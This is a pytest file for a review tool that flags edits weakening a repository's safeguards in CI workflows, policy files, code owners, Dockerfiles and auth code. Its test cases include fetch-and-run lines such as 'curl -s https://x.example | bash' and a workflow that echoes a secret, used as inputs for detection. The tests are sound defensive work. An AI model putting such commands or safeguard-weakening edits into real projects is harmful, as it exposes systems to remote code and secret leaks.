"""Edits of what guards a repository: told once a file, with what they weaken and who decides."""

import pytest
from conftest import Command, Ran, Repo

from bot.checkers import guarded
from bot.weakening import images, owners, workflows

POLICY = 'packs = ["oversight"]\n'
CI = ".github/workflows/ci.yml"
WORKFLOW = """\
name: CI
on:
  pull_request:
  push:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: other/thing@0123456789012345678901234567890123456789
      - run: pip install -e .
      - run: pytest
      - name: types
        run: mypy .
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: make lint
"""
WEAKENED = "oversight/weakened-workflow"
OTHER = "oversight/ci-workflow"
RULES = "oversight/rules-and-policy"


def edited(repo: Repo, review: Command, path: str, before: str | None, after: str | None) -> Ran:
    repo.commit({".architrave.toml": POLICY, **({} if before is None else {path: before})})
    repo.write({path: after})
    return review.json(repo)


def told(ran: Ran) -> list[tuple[str, str]]:
    return [(each["rule"], each["message"]) for each in ran.review["findings"]]


def workflow(repo: Repo, review: Command, old: str, new: str) -> Ran:
    assert old in WORKFLOW
    return edited(repo, review, CI, WORKFLOW, WORKFLOW.replace(old, new))


def test_keys_that_records_are_believed_by_are_part_of_the_rules(
    repo: Repo, review: Command
) -> None:
    before = POLICY + 'record-keys = [".architrave/one.pub"]\n'
    repo.commit({".architrave.toml": before, ".architrave/one.pub": "a key\n"})
    after = before.replace("one", "two") + "demote-noisy = true\n"
    repo.write({".architrave.toml": after, ".architrave/one.pub": "another\n"})
    found = told(review.json(repo))
    assert [rule for rule, _ in found] == [RULES, RULES]
    assert "changes the keys that records are believed by" in found[0][1]
    assert "lets rules become notes that people call wrong" in found[0][1]


def test_a_finding_stands_where_the_line_is_that_it_tells_of(repo: Repo, review: Command) -> None:
    new = WORKFLOW.replace("name: CI", "name: Checks").replace("mypy .", "mypy . || true")
    found = edited(repo, review, CI, WORKFLOW, new).review["findings"]
    lines = [each["start_line"] for each in found if each["rule"] == WEAKENED]
    assert lines == [16]


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("      - run: pytest\n", "", "no longer runs `pytest`"),
        ("run: mypy .", "run: echo mypy-less", "no longer runs `mypy`"),
        ("      - run: pytest\n", "      - run: pytest || true\n", "ignores the outcome of `pytest || true`"),
        ("run: mypy .", "run: mypy . || exit 0", "ignores the outcome of"),
        ("        run: mypy .", "        continue-on-error: true\n        run: mypy .", "continues after a failure of `test: types`"),
        ("  lint:\n", "  lint:\n    continue-on-error: true\n", "continues after a failure of `the job lint`"),
        ("        run: mypy .", "        if: false\n        run: mypy .", "no longer runs `mypy`"),
        ("  lint:\n", "  lint:\n    if: ${{ false }}\n", "no longer runs `make lint`"),
        ("contents: read", "contents: write", "may write `contents`"),
        ("permissions:\n  contents: read", "permissions: write-all", "may write `everything`"),
        ("permissions:\n  contents: read\n", "", "no longer limits its permissions"),
        ("  lint:\n", "  lint:\n    permissions: {id-token: write}\n", "may write `id-token` in `lint`"),
        ("  push:\n", "  pull_request_target:\n", "runs on `pull_request_target`"),
        ("  pull_request:\n", "", "no longer runs on pull requests"),
        ("run: pip install -e .", "run: TOKEN=${{ secrets.PYPI }} pip install .", "is given the secret `PYPI`"),
        ("checkout@v4", "checkout@main", "uses `actions/checkout@main`, which is not pinned"),
        ("thing@0123456789012345678901234567890123456789", "thing@v2", "no longer pins `other/thing` to a commit"),
        ("run: pip install -e .", "run: curl -s https://x.example | bash", "runs what it gets from the net"),
        ("run: pip install -e .", "run: wget -qO- https://x.example | sudo sh", "runs what it gets from the net"),
        (WORKFLOW[WORKFLOW.index("  lint:") :], "", "no longer runs `make lint`"),
    ],
)  # fmt: skip
def test_what_a_workflow_loses_is_told(
    repo: Repo, review: Command, old: str, new: str, says: str
) -> None:
    ((rule, message),) = told(workflow(repo, review, old, new))
    assert rule == WEAKENED
    assert says in message


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("name: CI\n", "# Comments\nname: CI # here\n"),
        ("on:\n  pull_request:\n  push:\n", '"on": {pull_request: , push: }\n'),
        ("checkout@v4", "checkout@v5"),
        ("thing@0123456789012345678901234567890123456789", "thing@" + "ab" * 20),
        ("runs-on: ubuntu-latest", "runs-on: ubuntu-24.04"),
        ("name: CI\n", "name: Tests\nconcurrency: {group: x}\n"),
        ("name: types\n", "name: typing\n"),
    ],
)
def test_an_edit_of_a_workflow_that_changes_nothing_of_weight_is_not_told(
    repo: Repo, review: Command, old: str, new: str
) -> None:
    assert told(workflow(repo, review, old, new)) == []


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("      - run: pytest\n", "      - uses: a/b@v1\n      - run: pytest\n", "it uses `a/b`"),
        ("  push:\n", "  push:\n  schedule:\n", "it runs on `schedule`"),
    ],
)
def test_what_else_a_workflow_does_is_a_note(
    repo: Repo, review: Command, old: str, new: str, says: str
) -> None:
    ran = workflow(repo, review, old, new)
    ((rule, message),) = told(ran)
    assert rule == OTHER
    assert says in message
    assert ran.code == 0


def test_other_commands_are_a_note_where_there_are_secrets(repo: Repo, review: Command) -> None:
    trusted = WORKFLOW.replace("name: types", "env:\n          KEY: ${{ secrets.KEY }}")
    for before, expected in ((WORKFLOW, []), (trusted, [OTHER])):
        repo.commit({".architrave.toml": POLICY, CI: before})
        repo.write({CI: before.replace("run: pip install -e .", "run: ./deploy")})
        found = told(review.json(repo))
        assert [rule for rule, _ in found] == expected
    assert "has rights or secrets and runs `./deploy`" in found[0][1]


def test_the_same_command_in_two_workflows_is_told_once(repo: Repo, review: Command) -> None:
    text = WORKFLOW.replace("pytest", "pytest\n        env:\n          T: ${{ secrets.T }}")
    other = ".github/workflows/nightly.yml"
    repo.commit({".architrave.toml": POLICY, CI: text, other: text})
    new = text.replace("pip install -e .", "python build.py")
    repo.write({CI: new, other: new})
    ((rule, message),) = told(review.json(repo))
    assert rule == OTHER
    assert f"in 2 files (`{CI}`, `{other}`); it has rights or secrets and runs" in message
    weaker = new.replace("mypy .", "mypy . || true")
    repo.write({CI: weaker, other: weaker})
    assert [rule for rule, _ in told(review.json(repo))].count(WEAKENED) == 2


def test_a_long_command_is_cut_where_a_word_ends(repo: Repo, review: Command) -> None:
    text = WORKFLOW.replace("pytest", "pytest\n        env:\n          T: ${{ secrets.T }}")
    long = "python build.py --first-option --second-option --third-option --fourth"
    ran = edited(repo, review, CI, text, text.replace("pip install -e .", long))
    assert "`python build.py --first-option --second-option…`" in told(ran)[0][1]
    assert ran.labelled("introduced") == [(OTHER, CI, 13)]


def test_a_pyproject_without_a_policy_is_not_guarded(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY})
    repo.write({"pyproject.toml": "[project]\n"})
    assert told(review.json(repo)) == []
    repo.commit({})
    repo.write({"pyproject.toml": None})
    assert told(review.json(repo)) == []


def test_a_finding_stands_on_the_first_changed_line(repo: Repo, review: Command) -> None:
    ran = workflow(repo, review, "      - run: pytest\n", "      - run: pytest || true\n")
    assert ran.labelled("introduced") == [(WEAKENED, CI, 14)]
    assert ran.code == 1


def test_checks_that_move_to_another_workflow_are_not_lost(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY, CI: WORKFLOW})
    lint = "  lint:\n    runs-on: x\n    steps:\n      - run: make lint\n"
    repo.write(
        {
            CI: WORKFLOW[: WORKFLOW.index("  lint:")],
            ".github/workflows/lint.yml": f"on: [pull_request]\njobs:\n{lint}",
        }
    )
    assert {rule for rule, _ in told(review.json(repo))} == {OTHER}


def test_a_deleted_workflow_is_told_by_what_it_checked(repo: Repo, review: Command) -> None:
    ((rule, message),) = told(edited(repo, review, CI, WORKFLOW, None))
    assert rule == WEAKENED
    assert "removes a workflow" in message


def test_a_workflow_moved_out_of_the_way_is_removed(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY, CI: WORKFLOW})
    repo.git("mv", CI, ".github/ci.yml.off")
    ((rule, message),) = told(review.json(repo))
    assert rule == WEAKENED
    assert "moved to where it has no effect" in message


def test_a_renamed_workflow_with_the_same_steps_is_not_told(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY, CI: WORKFLOW})
    repo.git("mv", CI, ".github/workflows/tests.yml")
    assert told(review.json(repo)) == []


def test_a_new_workflow_is_held_to_what_it_may_do(repo: Repo, review: Command) -> None:
    text = (
        "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: echo ${{ secrets.KEY }}\n"
    )
    ((rule, message),) = told(edited(repo, review, CI, None, text))
    assert rule == WEAKENED
    assert "pull_request_target" in message and "`KEY`" in message
    harmless = "on: push\njobs:\n  a:\n    steps:\n      - run: pytest\n"
    repo.commit({CI: None})
    repo.write({CI: harmless})
    assert [rule for rule, _ in told(review.json(repo))] == [OTHER]


@pytest.mark.parametrize(
    "text",
    [
        "on: [push\njobs: }",
        "a: &a [x]\n" + "".join(f"k{n}: &k{n} [*{'a' if not n else f'k{n - 1}'}{', *' + ('a' if not n else f'k{n - 1}')}]\n" for n in range(40)),
        "a: " + "[" * 900 + "]" * 900,
        "a: " + "[" * 100_000,
        "\x00",
        "a: &a [*a]\n",
        b"on: \xff\xfe",
    ],
    ids=["broken", "aliases", "deep", "very deep", "control", "in itself", "bytes"],
)  # fmt: skip
def test_a_workflow_that_cannot_be_read_keeps_the_gate_closed_and_stays_guarded(
    repo: Repo, review: Command, text: str | bytes
) -> None:
    repo.commit({".architrave.toml": POLICY, CI: WORKFLOW})
    repo.write({CI: text})
    ran = review.json(repo)
    assert ran.status(CI)["guarded"].startswith("failed")
    ((rule, message),) = told(ran)
    assert rule == WEAKENED
    assert "makes it unreadable" in message


def test_a_workflow_too_large_to_read_is_said(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY, CI: WORKFLOW})
    repo.write({CI: WORKFLOW + "#" * (1 << 20)})
    ran = review.json(repo)
    assert "too large" in ran.status(CI)["guarded"]
    assert [rule for rule, _ in told(ran)] == [WEAKENED]


def test_a_workflow_that_becomes_a_link_is_told(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY, CI: WORKFLOW})
    (repo.path / CI).unlink()
    (repo.path / CI).symlink_to("../../x.yml")
    assert "makes a link of it" in told(review.json(repo))[0][1]


def test_a_path_that_is_not_utf8_is_no_obstacle(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY})
    folder = repo.path / ".github/workflows"
    folder.mkdir(parents=True)
    with open(bytes(folder) + b"/\xff.yml", "w") as file:
        file.write("on: push\n")
    assert [rule for rule, _ in told(review.json(repo))] == [OTHER]


# Rules, policy, owners --------------------------------------------------------------------------


HOUSE = """---
id: house/no-prints
title: No prints
severity: error
check: ruff
options: {codes: [T201]}
paths: ["shop/**", "lib/**"]
---

## Why

Because.

## Instead

Log.
"""
RULE_FILE = ".architrave/rules/prints.md"


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("severity: error", "severity: note", "lowers the severity from error to note"),
        ('"shop/**", "lib/**"', '"shop/**"', "looks at fewer paths: `shop/**`"),
        ('"shop/**", "lib/**"', '"shop/**", "lib/**", "!shop/old/**"', "leaves out paths: `!shop/old/**`"),
        ("[T201]", "[T203]", "changes `options`"),
        ("Because.", "Why not.", "edits the rules of review; needs"),
    ],
)  # fmt: skip
def test_what_a_rule_loses_is_told(
    repo: Repo, review: Command, old: str, new: str, says: str
) -> None:
    assert old in HOUSE
    ran = edited(repo, review, RULE_FILE, HOUSE, HOUSE.replace(old, new))
    ((rule, message),) = told(ran)
    assert rule == RULES
    assert says in message
    assert ran.code == 1


def test_a_deleted_rule_is_told(repo: Repo, review: Command) -> None:
    ((rule, message),) = told(edited(repo, review, RULE_FILE, HOUSE, None))
    assert (rule, "removes the rules of review" in message) == (RULES, True)


def test_a_rule_that_is_none_any_more_is_told(repo: Repo, review: Command) -> None:
    ran = edited(repo, review, RULE_FILE, HOUSE, "nothing\n")
    assert RULES in [rule for rule, _ in told(ran)]
    assert "no front matter" in ran.status(RULE_FILE)["guarded"]


@pytest.mark.parametrize(
    ("more", "says"),
    [
        ('disable = ["security/shell-injection"]\n', "switches off `security/shell-injection`"),
        ('ignore = ["src/**"]\n', "leaves out of review `src/**`"),
        ('fail-on = "never"\n', "blocks on `never` instead of `error`"),
        ('judge = "off"\n', "sets the judge from `auto` to `off`"),
        ('[severity]\n"oversight/ci-workflow" = "note"\n', "makes `oversight/ci-workflow` a note"),
        ('[options]\n"oversight/code-owners" = {only = "added"}\n', "changes the options of"),
        ('scope = "ai"\n', "holds only what an agent wrote to the rules"),
        ('unmarked = "human"\n', "takes lines without a sign for `human` instead of `ai`"),
        ("demote-noisy = true\n", "lets rules become notes"),
        ('record-keys = ["other.pub"]\n', "changes the keys"),
        ("traces = []\n", "changes the files that tell what agents wrote"),
        ('source-roots = ["lib"]\n', "changes where imports start"),
        ('[severity-ai]\n"tests/no-assertion" = "note"\n', "a note on lines by agents"),
    ],
)
def test_what_the_policy_loses_is_told(repo: Repo, review: Command, more: str, says: str) -> None:
    repo.commit({".architrave.toml": POLICY})
    repo.write({".architrave.toml": POLICY + more})
    ((rule, message),) = told(review.json(repo))
    assert rule == RULES
    assert says in message


STRICT = """packs = ["oversight"]
answer = "reason"
author-may-answer = false
owners-only = true

[severity]
"oversight/ci-workflow" = "error"

[severity-ai]
"oversight/code-owners" = "warning"

[options]
"oversight/code-owners" = {only = "added"}

[agents]
"Marvin" = ["marvin@example.org", "marvin-bot"]
"""


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ('answer = "reason"\n', "", "lets findings be resolved without a reason"),
        ("author-may-answer = false\n", "", "lets authors answer the findings about their own"),
        ("owners-only = true", "owners-only = false", "lets others than a rule's owner answer"),
        ('"oversight/ci-workflow" = "error"\n', "", "no longer makes `oversight/ci-workflow` an error"),
        ('"oversight/code-owners" = "warning"\n', "", "no longer makes `oversight/code-owners` a warning on lines by agents"),
        ('"oversight/code-owners" = {only = "added"}\n', "", "drops the options of `oversight/code-owners`"),
        (', "marvin-bot"', "", "no longer knows the agent `Marvin` by `marvin-bot`"),
        ('"Marvin" = ["marvin@example.org", "marvin-bot"]\n', "", "no longer knows the agent `Marvin` by"),
    ],
)  # fmt: skip
def test_what_is_taken_out_of_a_strict_policy_is_told(
    repo: Repo, review: Command, old: str, new: str, says: str
) -> None:
    assert old in STRICT
    repo.commit({".architrave.toml": STRICT})
    repo.write({".architrave.toml": STRICT.replace(old, new)})
    ((rule, message),) = told(review.json(repo))
    assert rule == RULES
    assert says in message


@pytest.mark.parametrize(
    "more",
    ['answer = "reason"\n', "author-may-answer = false\n", "owners-only = true\n", 'judge = "required"\n'],
)  # fmt: skip
def test_a_policy_that_becomes_stricter_loses_nothing(
    repo: Repo, review: Command, more: str
) -> None:
    repo.commit({".architrave.toml": POLICY})
    repo.write({".architrave.toml": POLICY + more})
    messages = [message for _, message in told(review.json(repo))]
    assert not [each for each in messages if "lets" in each or "sets" in each]


def test_a_pack_that_is_dropped_is_told(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": 'packs = ["oversight", "security"]\n'})
    repo.write({".architrave.toml": POLICY})
    assert "drops the pack `security`" in told(review.json(repo))[0][1]


def test_a_policy_in_pyproject_is_guarded_and_the_rest_of_it_is_not(
    repo: Repo, review: Command
) -> None:
    project = '[project]\nname = "x"\n[tool.architrave]\npacks = ["oversight"]\n'
    repo.commit({"pyproject.toml": project})
    repo.write({"pyproject.toml": project.replace('"x"', '"y"')})
    assert told(review.json(repo)) == []
    repo.write({"pyproject.toml": project + 'fail-on = "never"\n'})
    assert [rule for rule, _ in told(review.json(repo))] == [RULES]
    repo.write({"pyproject.toml": '[project]\nname = "x"\n'})
    assert [rule for rule, _ in told(review.json(repo))] == [RULES]


def test_a_policy_that_is_only_laid_out_anew_is_not_told(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY})
    repo.write({".architrave.toml": '# ours\npacks = [\n  "oversight",\n]\n'})
    assert told(review.json(repo)) == []


OWNERS = "* @all\n/.github/ @infra @ops\nbilling/ @payments\n"


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("billing/ @payments\n", "", "no longer has an owner for `billing/`"),
        ("billing/ @payments", "billing/", "takes all owners from `billing/`"),
        ("@infra @ops", "@ops", "takes @infra from `/.github/`"),
    ],
)
def test_whose_word_is_no_longer_needed_is_told(
    repo: Repo, review: Command, old: str, new: str, says: str
) -> None:
    ran = edited(repo, review, ".github/CODEOWNERS", OWNERS, OWNERS.replace(old, new))
    ((rule, message),) = told(ran)
    assert rule == "oversight/code-owners"
    assert says in message
    assert message.endswith("needs a decision by @infra, @ops")


def test_the_owner_named_at_base_decides_the_last_pattern_first(
    repo: Repo, review: Command
) -> None:
    repo.commit({".architrave.toml": POLICY, "CODEOWNERS": OWNERS, CI: WORKFLOW})
    # The change itself cannot name another.
    repo.write({"CODEOWNERS": "* @me\n", CI: WORKFLOW.replace("pytest", "true")})
    messages = dict(told(review.json(repo)))
    assert messages[WEAKENED].endswith("needs a decision by @infra, @ops")
    assert messages["oversight/code-owners"].endswith("needs a decision by @all")


def test_the_owner_of_the_rule_comes_before_that_of_the_path(repo: Repo, review: Command) -> None:
    rule = HOUSE.replace("check: ruff", "check: guarded\nowner: '@dba'")
    rule = rule.replace("{codes: [T201]}", "{files: ['*.sql'], what: the shape of the data}")
    rule = rule.replace('paths: ["shop/**", "lib/**"]\n', "")
    repo.commit({".architrave/rules/sql.md": rule, "CODEOWNERS": OWNERS})
    repo.write({"a.sql": "drop table x;\n"})
    ((name, message),) = told(review.json(repo))
    assert name == "house/no-prints"
    assert message == "The change adds the shape of the data; needs a decision by @dba"


@pytest.mark.parametrize(
    ("path", "owner"),
    [
        ("x.py", ("@all",)),
        (".github/workflows/a.yml", ("@infra", "@ops")),
        ("shop/billing/a.py", ("@payments",)),
        ("docs/deep/er.md", ("@docs",)),
        ("docs/api/free.md", ()),
    ],
)
def test_owners_are_read_as_github_reads_them(path: str, owner: tuple[str, ...]) -> None:
    entries = owners.parse([*OWNERS.splitlines(), "/docs @docs # they", "/docs/api/", "# * @no"])
    assert owners.of(path, entries) == owner


# Images, settings, code -------------------------------------------------------------------------


DOCKER = "FROM python:3.12-slim@sha256:abc AS base\nUSER app\nRUN pip install .\nCMD x\n"


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("USER app\n", "", "runs as root; it was `app`"),
        ("USER app\n", "USER app\nUSER root\n", "runs as root; it was `app`"),
        ("USER app\n", "USER app\nFROM python:3.13\n", "runs as root; it was `app`"),
        ("USER app\n", "USER 0:0\n", "runs as root"),
        ("python:3.12-slim@sha256:abc", "python", "builds on `python`, which is not pinned"),
        ("python:3.12-slim@sha256:abc", "python:latest", "builds on `python:latest`"),
        ("python:3.12-slim@sha256:abc", "python:3.13", "no longer pins `python:3.13` to a digest"),
        ("pip install .", "curl -sL https://x.example \\\n  | bash", "runs what it gets from the net"),
        ("CMD x", "ADD https://x.example/a.tgz /a\nCMD x", "adds what it gets from the net unchecked"),
        ("RUN pip", "RUN --security=insecure pip", "builds with `--security=insecure`"),
    ],
)  # fmt: skip
def test_what_makes_an_image_less_safe_is_told(
    repo: Repo, review: Command, old: str, new: str, says: str
) -> None:
    assert old in DOCKER
    ((rule, message),) = told(edited(repo, review, "Dockerfile", DOCKER, DOCKER.replace(old, new)))
    assert rule == "oversight/container-image"
    assert says in message


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("pip install .", "pip install . \\\n # why\n  --no-deps"),
        ("python:3.12-slim@sha256:abc", "python:3.13-slim@sha256:def"),
        ("CMD x", "FROM base\nUSER app\nCMD x"),
        ("CMD x", "ADD --checksum=sha256:1 https://x.example/a /a\nCMD x"),
    ],
)
def test_other_edits_of_an_image_are_not_told(
    repo: Repo, review: Command, old: str, new: str
) -> None:
    assert told(edited(repo, review, "Dockerfile", DOCKER, DOCKER.replace(old, new))) == []


@pytest.mark.parametrize(
    "path", ["ruff.toml", "src/.ruff.toml", ".bandit", "mypy.ini", "pytest.ini"]
)
def test_new_settings_for_a_checker_are_told(repo: Repo, review: Command, path: str) -> None:
    ((rule, message),) = told(edited(repo, review, path, None, "[lint]\n"))
    assert rule == "oversight/checker-settings"
    assert "adds a file of settings for a checker" in message


def test_code_that_decides_who_may_do_what_is_a_note(repo: Repo, review: Command) -> None:
    ran = edited(repo, review, "shop/auth/login.py", "x = 1\n", "x = 2\n")
    assert ran.labelled("introduced") == [("oversight/auth-code", "shop/auth/login.py", 1)]
    assert ran.code == 0


def test_comments_and_layout_of_such_code_are_not_told(repo: Repo, review: Command) -> None:
    ran = edited(repo, review, "shop/auth/login.py", "x = (1)\n", "# One\nx = 1\n")
    assert told(ran) == []


def test_files_of_which_there_is_the_same_to_say_are_told_together(
    repo: Repo, review: Command
) -> None:
    names = [f"shop/auth/{name}.py" for name in "abcdef"]
    before = '"""Doc."""\nimport os\n\nx = 1\n'
    repo.commit({".architrave.toml": POLICY, **dict.fromkeys(names, before)})
    small = before.replace("x = 1", "x = 2")
    large = small.replace("import os", "import os\nimport re") + "y = 3\nz = 4\n"
    repo.write(
        {**dict.fromkeys(names, small), "shop/auth/c.py": large, "shop/auth/g.py": "x = 1\n"}
    )
    ran = review.json(repo)
    assert ran.labelled("introduced") == [
        ("oversight/auth-code", "shop/auth/c.py", 5),
        ("oversight/auth-code", "shop/auth/g.py", 1),
    ]
    messages = sorted(message for _, message in told(ran))
    assert "adds code that decides who may do what; needs" in messages[0]
    assert "in 6 files (`shop/auth/a.py`, `shop/auth/b.py`, `shop/auth/c.py`, `shop/auth/d.py` and 2 more);" in messages[1]  # fmt: skip


def test_files_that_others_decide_about_are_told_apart(repo: Repo, review: Command) -> None:
    paths = ["a/auth/x.py", "b/auth/x.py"]
    owner = {"CODEOWNERS": "/a/ @one\n/b/ @two\n"}
    repo.commit({".architrave.toml": POLICY, **owner, **dict.fromkeys(paths, "x = 1\n")})
    repo.write(dict.fromkeys(paths, "x = 2\n"))
    assert {message.rpartition(" ")[2] for _, message in told(review.json(repo))} == {
        "@one",
        "@two",
    }


def test_what_each_file_loses_is_told_of_each(repo: Repo, review: Command) -> None:
    other = ".github/workflows/other.yml"
    repo.commit({".architrave.toml": POLICY, CI: WORKFLOW, other: WORKFLOW})
    weaker = WORKFLOW.replace("      - run: pytest\n", "")
    repo.write({CI: weaker, other: weaker})
    assert [rule for rule, _ in told(review.json(repo))] == [WEAKENED, WEAKENED]


def test_files_that_the_rule_leaves_out_are_not_counted(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY})
    repo.write({"shop/auth/a.py": "x = 1\n", "tests/auth/b.py": "x = 1\n" * 9})
    ((_, message),) = told(review.json(repo))
    assert "files" not in message


IDLE = '"""Doc."""\nfrom a.b import c\nfrom typing import TYPE_CHECKING\n\n\ndef f(x):\n    """Doc."""\n    return x\n'


@pytest.mark.parametrize(
    ("old", "new", "is_told"),
    [
        ('    """Doc."""\n', '    """Other words."""\n', False),
        ('    """Doc."""\n', "", False),
        ("import c\n", "import c, d\n", False),
        ("import c\n", "import c\n\n__all__ = ['c']\n", False),
        ("TYPE_CHECKING\n", "TYPE_CHECKING\n\nif TYPE_CHECKING:\n    from e import f\n", False),
        ("from a.b import c\n", "from a.z import c\n", True),
        ("from a.b import c\n", "from a.b import other\n", False),
        ("import c\n", "import c\nimport e\n", True),
        ("return x", "return not x", True),
        ("return x", "from a import x\n    return x", True),
    ],
)
def test_documentation_and_names_passed_on_mean_nothing(
    repo: Repo, review: Command, old: str, new: str, is_told: bool
) -> None:
    assert old in IDLE
    ran = edited(repo, review, "shop/auth/a.py", IDLE, IDLE.replace(old, new))
    assert bool(told(ran)) is is_told


def test_a_new_file_that_only_passes_names_on_is_not_told(repo: Repo, review: Command) -> None:
    path = "shop/auth/__init__.py"
    text = '"""Doc."""\n\nfrom shop.auth.a import b\n\n__all__ = ["b"]\n'
    assert told(edited(repo, review, path, None, text)) == []
    assert told(edited(repo, review, "shop/auth/b.py", None, text + "b()\n")) != []


def test_code_that_follows_a_renamed_package_is_not_told(repo: Repo, review: Command) -> None:
    text = "from {}.web.a import b\n\n\ndef allowed():\n    return b()\n"
    files = dict.fromkeys(["old/__init__.py", "old/auth/__init__.py", "old/web/__init__.py"], "")
    code = "".join(f"x{n} = {n}\n" for n in range(20))
    repo.commit({".architrave.toml": POLICY, **files, "old/web/a.py": code})
    repo.commit({"old/auth/a.py": text.format("old")})
    repo.git("mv", "old", "new")
    repo.write({"new/auth/a.py": text.format("new")})
    assert told(review.json(repo)) == []
    repo.write({"new/auth/a.py": text.format("odd")})
    assert told(review.json(repo)) != []


def test_a_short_file_that_went_with_its_renamed_folder_is_not_told(
    repo: Repo, review: Command
) -> None:
    code = "".join(f"x{n} = {n}\n" for n in range(20))
    text = "from old.auth.a import x1\n\ny = x1\n"
    base = {"old/__init__.py": "", "old/auth/__init__.py": text, "old/auth/a.py": code}
    repo.commit({".architrave.toml": POLICY, **base})
    new = '"""Other words, so that Git sees no likeness at all in these lines."""\n\n\n'
    new += "# More\n" + text.replace("old", "new")
    moved = {path.replace("old", "new"): each for path, each in base.items()}
    repo.write({**dict.fromkeys(base), **moved, "new/auth/__init__.py": new})
    assert told(review.json(repo)) == []
    repo.write({"new/auth/__init__.py": new.replace("y = x1", "y = not x1")})
    assert told(review.json(repo)) != []


def test_code_that_does_not_parse_is_told(repo: Repo, review: Command) -> None:
    ran = edited(repo, review, "shop/auth/a.py", "x = 1\n", "\n# Odd\nx = (\n")
    assert ran.labelled("introduced") == [("oversight/auth-code", "shop/auth/a.py", 3)]


def test_a_guard_that_the_policy_ignores_is_left_alone(repo: Repo, review: Command) -> None:
    repo.commit({".architrave.toml": POLICY + 'ignore = [".github/**"]\n', CI: WORKFLOW})
    repo.write({CI: "on: push\n"})
    assert told(review.json(repo)) == []


# Hostile ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "run",
    ["curl " * 200_000, "curl " + "a" * 900_000, "pytest " * 100_000, "|| " * 300_000, "x\n" * 300_000],
    ids=lambda run: run[:8],
)  # fmt: skip
def test_long_scripts_take_no_time(run: str) -> None:
    step = {"run": run, "uses": run}
    data = {"on": run, "jobs": {"a": {"steps": [step]}}}
    facts = workflows.facts(data)
    list(workflows.compare(workflows.facts({}), facts, facts.checks))
    list(workflows.differences(workflows.facts({}), facts))
    lines = [f"RUN {run}"[:900_000], "FROM " + "a" * 10_000]
    list(images.compare([], images.parse(lines)))


@pytest.mark.parametrize(
    "data",
    [None, [], "x", {"jobs": []}, {"jobs": {"a": None}}, {"jobs": {"a": {"steps": [None, "x", {}]}}},
     {"on": {"push": None}, "permissions": "read-all"}, {"runs": {"steps": [{"uses": 3}]}}],
)  # fmt: skip
def test_data_of_any_shape_is_compared(data: object) -> None:
    full = workflows.facts({"on": ["push"], "jobs": {"a": {"steps": [{"run": "pytest"}]}}})
    odd = workflows.facts(data)
    assert list(workflows.compare(odd, odd, odd.checks)) == []
    assert list(workflows.compare(full, odd, odd.checks)) != []


def test_options_of_a_rule_are_checked() -> None:
    problems = " ".join(guarded.check_options({"files": [], "what": "a\nb", "only": "x"}))
    assert "`files` must be a list of globs" in problems
    assert "`what` must be a short phrase" in problems
    assert "`only` must be one of any" in problems


@pytest.mark.parametrize(("renamed", "told"), [(False, False), (True, True)])
def test_a_job_that_comes_besides_all_others_may_forgive_itself(
    repo: Repo, review: Command, renamed: bool, told: bool
) -> None:
    path = ".github/workflows/ci.yml"
    repo.commit({path: WORKFLOW})
    head = WORKFLOW.replace("  test:\n", "  check:\n") if renamed else WORKFLOW
    extra = "  fuzz:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest fuzz || true\n"
    repo.write({path: head.rstrip("\n") + "\n" + extra})
    messages = [each["message"] for each in review.json(repo).review["findings"]]
    assert any("ignores the outcome" in each for each in messages) == told
